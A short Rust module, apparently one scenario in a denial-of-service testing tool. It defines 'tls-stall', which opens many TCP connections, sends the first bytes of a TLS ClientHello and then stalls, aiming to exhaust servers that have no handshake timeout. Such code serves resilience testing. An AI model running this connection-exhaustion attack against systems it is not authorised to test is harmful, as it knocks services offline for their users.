//! `tls-stall`: TCP connections that send the first bytes of a TLS ClientHello and then
//! nothing. A server without a handshake deadline keeps each one, and the state of a
//! handshake in progress, for ever.

use tokio::io::AsyncWriteExt;

use super::hold;
use crate::scenarios::{Load, Run, Scenario};

/// A TLS record header announcing a 512-byte handshake message, and its first bytes.
const PARTIAL_HELLO: &[u8] = &[
    0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xfc, 0x03, 0x03,
];

/// The registry entry.
pub const SCENARIO: Scenario = Scenario {
    name: "tls-stall",
    kind: "dos",
    description: "TCP connections that send part of a ClientHello and then stall",
    run: Run::Dos(|ctx, counters| {
        Box::pin(hold::run(ctx, counters, |ctx, src| async move {
            let mut tcp = ctx.client.tcp_from(src).await.ok()?;
            tcp.write_all(PARTIAL_HELLO).await.ok()?;
            Some(tcp)
        }))
    }),
    load: Load::Connections,
};
